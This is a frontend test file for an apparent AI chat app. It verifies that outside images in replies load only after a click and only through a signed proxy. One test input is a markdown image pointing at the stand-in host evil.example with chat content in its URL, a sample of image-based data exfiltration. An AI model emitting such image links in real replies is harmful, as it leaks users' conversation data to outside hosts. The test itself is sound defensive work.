import { act, fireEvent, render, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { SearchResultsCard } from '../chat/tools/search-results-card';
import { Markdown } from '../ui/markdown';

/** N4: no image request leaves for an outside host except through the server's proxy. */
describe('outside images in replies', () => {
  const fetchMock = vi.fn();
  beforeEach(() => {
    fetchMock.mockReset();
    fetchMock.mockImplementation(async (_url: string, init: RequestInit) => {
      const { urls } = JSON.parse(String(init.body)) as { urls: string[] };
      return new Response(
        JSON.stringify({ links: urls.map((u) => `/api/media/image?url=${encodeURIComponent(u)}&signature=sig`) }),
        { status: 200, headers: { 'content-type': 'application/json' } },
      );
    });
    vi.stubGlobal('fetch', fetchMock);
  });
  afterEach(() => vi.unstubAllGlobals());

  const outsideImgs = (container: HTMLElement) =>
    [...container.querySelectorAll('img')].filter((img) => !img.src.startsWith(`${window.location.origin}/`));

  it('should not load a markdown image from an outside host until clicked, then only through the proxy', async () => {
    const { container, getByTestId } = render(
      <Markdown>{'Here: ![chart](https://evil.example/p.png?q=the%20secret%20chat)'}</Markdown>,
    );
    expect(container.querySelector('img')).toBeNull();
    const button = getByTestId('outside-image');
    expect(button.textContent).toContain('evil.example');
    await act(async () => new Promise((r) => setTimeout(r, 5)));
    expect(fetchMock).not.toHaveBeenCalled();

    fireEvent.click(button);
    await waitFor(() => expect(container.querySelector('img')).not.toBeNull());
    expect(fetchMock).toHaveBeenCalledTimes(1);
    expect(String(fetchMock.mock.calls[0]?.[0])).toMatch(/\/media\/image-links$/);
    const img = container.querySelector('img') as HTMLImageElement;
    expect(img.src).toBe(
      `${window.location.origin}/api/media/image?url=${encodeURIComponent('https://evil.example/p.png?q=the%20secret%20chat')}&signature=sig`,
    );
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(outsideImgs(container)).toEqual([]);
  });

  it('should show our own images as they are', () => {
    const { container } = render(<Markdown>{'![mine](/api/files/abc?expires=1&signature=x)'}</Markdown>);
    expect(container.querySelector('img')?.getAttribute('src')).toBe('/api/files/abc?expires=1&signature=x');
    expect(fetchMock).not.toHaveBeenCalled();
  });

  it('should load tool favicons through the proxy only', async () => {
    const { container } = render(
      <SearchResultsCard results={[{ title: 'A', url: 'https://a.example/page', snippet: 's' }]} />,
    );
    await waitFor(() => expect(container.querySelector('img')).not.toBeNull());
    expect(container.querySelector('img')?.getAttribute('src')).toContain('/api/media/image?url=');
    expect(outsideImgs(container)).toEqual([]);
  });
});
